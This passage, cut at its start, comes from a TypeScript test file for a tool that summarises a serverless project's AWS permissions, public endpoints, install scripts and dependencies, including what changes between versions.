  expect(screen(module)).not.toMatch(/wide|full administrator|Programs/);
});

test('texts that many patterns begin in are read in no time', () => {
  const started = performance.now();
  for (const begin of ['{{resolve:', '$' + '{', '<', ':', '*', ' #', '@'])
    screen({
      ...right(allow(['s3:GetObject', { 'Fn::Sub': begin.repeat(40_000) }], begin.repeat(40_000))),
      ...resource('AWS::SNS::TopicPolicy', {
        PolicyDocument: policy({
          ...allow('sns:Publish', begin.repeat(40_000)),
          Principal: '*',
          Condition: { ArnLike: { 'aws:SourceArn': begin.repeat(40_000) } },
        }),
      }),
      more: { 'awsm/make/requirements.txt': `${begin.repeat(40_000)}\rx` },
    });
  expect(performance.now() - started).toBeLessThan(5000);
});

test('a reason counts where it is not deployed, and says something', () => {
  const inside = (Why: string) =>
    resource('AWS::IAM::Policy', { Users: ['x'], PolicyDocument: policy({ ...everything, Why }) });
  expect(screen(inside('it is tested'))).toContain('x is full administrator (wide)\n');
  expect(screen(right({ ...everything, Why: ' ' }))).toContain('is full administrator (wide)\n');
  expect(screen(resource('AWS::IAM::AccessKey', { UserName: 'x' }, { Metadata: { 'jaws:why': ' ' } }))).toContain(
    'every machine (wide)\n',
  );
});

test('what is wide says why, and the reason of its author', () => {
  const open = { Principal: '*', ...allow('s3:GetObject', '*') };
  const because = { Metadata: { 'jaws:why': 'pictures are public' } };
  expect(screen(resource('AWS::S3::BucketPolicy', { PolicyDocument: policy(open) }, because))).toContain(
    'everyone may s3:GetObject on * (wide): pictures are public\n    everyone can, and no condition names something of this account\n',
  );
  expect(screen(right({ ...everything, Why: 'it is tested' }))).toContain(
    'is full administrator (wide): it is tested\n',
  );
});

test('an update shows what is new, and denials that are gone', () => {
  const deny = { Effect: 'Deny', Action: 's3:DeleteObject', Resource: '*' };
  const before: Hostile = {
    ...right(allow('sqs:SendMessage', 'arn:aws:sqs:us-east-1:1:a'), deny),
    api: { cloudFormation: { Path: 'x', AuthorizationType: 'AWS_IAM' } },
  };
  const after: Hostile = {
    lambda: {
      iamPolicyDocumentStatements: [allow('sqs:SendMessage', 'arn:aws:sqs:us-east-1:1:a'), allow('iam:PassRole', '*')],
      package: { build: ['make'] },
    },
    api: { cloudFormation: { Path: 'x' } },
  };
  const shown = (now: Hostile) => descriptionText(whatIsNew(describe(now), describe(before)), unpainted, '0.9.0');
  expect(
    shown(after)
      .split('\n')
      .map((line) => line.trim()),
  ).toEqual([
    'awsm-thumbs 1.0.0',
    'New since 0.9.0:',
    'Endpoints',
    'GET /x  open to everyone, and nothing says why',
    'Permissions',
    'awsm-thumbs/make may iam:PassRole on * (wide)',
    'the resource "*" is every resource of the account, those of other projects too',
    'no longer: awsm-thumbs/make may never s3:DeleteObject on * (wide)',
    'it was denied before',
    'Programs that packaging starts on your machine, as you',
    'awsm-thumbs/make: make',
  ]);
  expect(shown(before)).toMatch(/\nNothing is new since 0\.9\.0 but code\.$/);
});

test('an update shows no script, command or package that was there before', () => {
  const manifest = (version: string) => ({
    scripts: { install: 'make' },
    bin: { thumbs: 'x.js' },
    dependencies: { sharp: '1', evil: version },
    peerDependencies: { jaws: '2' },
  });
  const shown = (now: object) => {
    const after = { ...describe({ manifest: now }), provenance: { signed: true } };
    return descriptionText(whatIsNew(after, describe({ manifest: manifest('1') })), unpainted, '0.9.0').split('\n');
  };
  expect(shown(manifest('1'))[1]).toBe('Nothing is new since 0.9.0 but code.');
  expect(shown(manifest('1')).join()).not.toMatch(/make|sharp|x\.js|as your project has it/);
  expect(shown(manifest('2')).join('\n')).toContain('Packages\n  evil 2');
});
